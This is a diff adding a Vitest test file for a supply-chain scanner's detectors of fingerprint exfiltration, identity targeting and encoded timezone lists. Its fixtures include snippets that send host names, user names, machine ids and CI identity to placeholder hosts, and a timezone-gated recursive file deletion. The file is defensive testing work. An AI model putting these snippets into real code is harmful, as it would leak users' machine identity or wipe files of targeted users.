@@ -1,0 +1,118 @@
+import { describe, expect, it } from 'vitest';
+import type { Detector, DetectorReport } from '../../../src/analysis/detector.js';
+import { encodedListMatch } from '../../../src/analysis/detectors/encoded-list-match.js';
+import { fingerprintExfiltration } from '../../../src/analysis/detectors/fingerprint-exfiltration.js';
+import { identityTargeting } from '../../../src/analysis/detectors/identity-targeting.js';
+import { fileFacts } from '../../../src/analysis/facts/file-facts.js';
+import { parse } from '../../../src/analysis/parse.js';
+import { walk } from '../../../src/analysis/run-detectors.js';
+import { runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';
+
+const CASES: DetectorCase[] = [
+  {
+    name: 'host name in a fetch body',
+    code: "const os = require('os');\nfetch('https://t.invalid/c', { method: 'POST', body: JSON.stringify({ h: os.hostname() }) });",
+    expect: [{ severity: 'medium', line: 2, sourceKind: 'hostname', messageIncludes: 'through fetch' }],
+    twin: { code: "const os = require('os');\nconsole.log('host', os.hostname());\nfetch('https://t.invalid/c', { method: 'POST', body: '{}' });" },
+  },
+  {
+    name: 'DNS lookup of a name built from the user',
+    code: "const dns = require('dns');\nconst os = require('os');\ndns.lookup(`${os.userInfo().username}.x.invalid`, () => {});",
+    expect: [{ severity: 'medium', sourceKind: 'user', messageIncludes: 'dns.lookup' }],
+    twin: { code: "const dns = require('dns');\ndns.lookup(`${options.name}.x.invalid`, () => {});" },
+  },
+  {
+    name: 'child process arguments carry the user name',
+    code: "const { exec } = require('child_process');\nexec('curl https://x.invalid/?u=' + process.env.USER);",
+    expect: [{ severity: 'medium', sourceKind: 'user', messageIncludes: 'child_process.exec' }],
+    twin: { code: "const { exec } = require('child_process');\nexec('git status --porcelain');" },
+  },
+  {
+    name: 'network interfaces written to a request made by https.request',
+    code: "const https = require('https');\nconst os = require('os');\nconst req = https.request({ host: 'x.invalid', method: 'POST' });\nreq.end(JSON.stringify(os.networkInterfaces()));",
+    expect: [{ severity: 'medium', sourceKind: 'network', messageIncludes: 'https.request' }],
+    twin: { code: "const https = require('https');\nconst req = https.request({ host: 'x.invalid', method: 'POST' });\nreq.end(JSON.stringify({ ok: true }));" },
+  },
+  {
+    name: 'machine id sent over a WebSocket',
+    code: "const fs = require('fs');\nconst ws = new WebSocket('wss://x.invalid');\nws.send(fs.readFileSync('/etc/machine-id', 'utf8'));",
+    expect: [{ severity: 'medium', sourceKind: 'machine-id', messageIncludes: 'WebSocket' }],
+    twin: { code: "const fs = require('fs');\nconst ws = new WebSocket('wss://x.invalid');\nws.send(fs.readFileSync('./package.json', 'utf8'));" },
+  },
+  {
+    name: 'page host name in a beacon',
+    code: "navigator.sendBeacon('https://x.invalid/b', location.hostname);",
+    expect: [{ severity: 'medium', sourceKind: 'hostname' }],
+    twin: { code: "navigator.sendBeacon('https://x.invalid/b', 'ping');" },
+  },
+  {
+    name: 'minified: CI identity returned by a helper and sent',
+    code: 'function r(){return process.env.GITHUB_REPOSITORY}var o=require("https");o.get("https://x.invalid/?r="+r());',
+    expect: [{ severity: 'medium', sourceKind: 'ci' }],
+    twin: { code: 'function r(){return process.env.NODE_ENV}var o=require("https");o.get("https://x.invalid/?r="+r());' },
+  },
+  {
+    name: 'timezone in a header is routine: low',
+    code: "fetch('https://api.invalid/v1', { headers: { 'x-zone': Intl.DateTimeFormat().resolvedOptions().timeZone } });",
+    expect: [{ severity: 'low', sourceKind: 'timezone' }],
+    twin: { code: "fetch(process.env.API_BASE_URL + '/v1', { headers: { 'x-zone': 'UTC' } });" },
+  },
+];
+
+runDetectorCases(fingerprintExfiltration, CASES);
+
+/** The raw reports, which carry the install-time escalation the package analysis applies later. */
+function reportsFor(detector: Detector, code: string): DetectorReport[] {
+  const outcome = parse(code);
+  if (!outcome.ok) throw new Error(outcome.reason);
+  const reports: DetectorReport[] = [];
+  const visitors = detector.create({
+    file: 'case.js',
+    source: code,
+    program: outcome.program,
+    codeKind: 'install',
+    codeKindPhrase: 'install-time code',
+    facts: fileFacts(),
+    position: () => ({ line: 1, column: 0 }),
+    snippet: () => '',
+    report: (report) => reports.push(report),
+  });
+  walk(outcome.program, (node, ancestors) => visitors[node.type]?.(node, ancestors));
+  visitors['Program:exit']?.(outcome.program);
+  return reports;
+}
+
+describe('install-time escalation', () => {
+  it.each<[string, Detector, string, string]>([
+    ['a host name sent away', fingerprintExfiltration, CASES[0]?.code ?? '', 'critical'],
+    ['a timezone sent away', fingerprintExfiltration, CASES[7]?.code ?? '', 'medium'],
+    [
+      'targeting that deletes files',
+      identityTargeting,
+      "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Moscow', 'Europe/Minsk'].includes(z)) require('fs').rmSync('.', { recursive: true });",
+      'critical',
+    ],
+    [
+      'targeting that prints',
+      identityTargeting,
+      "const z = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (['Europe/Moscow', 'Europe/Minsk'].includes(z)) console.log('hi');",
+      'high',
+    ],
+    [
+      'targeting only returned',
+      identityTargeting,
+      "module.exports = () => ['Europe/Moscow', 'Europe/Minsk'].includes(Intl.DateTimeFormat().resolvedOptions().timeZone);",
+      'high',
+    ],
+    [
+      'an encoded list gating a send',
+      encodedListMatch,
+      "const L = atob('RXVyb3BlL01vc2Nvdw==');\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === L) fetch('https://x.invalid');",
+      'critical',
+    ],
+  ])('%s', (_name, detector, code, install) => {
+    const reports = reportsFor(detector, code);
+    expect(reports).toHaveLength(1);
+    expect(reports[0]?.severityByCodeKind?.install).toBe(install);
+  });
+});
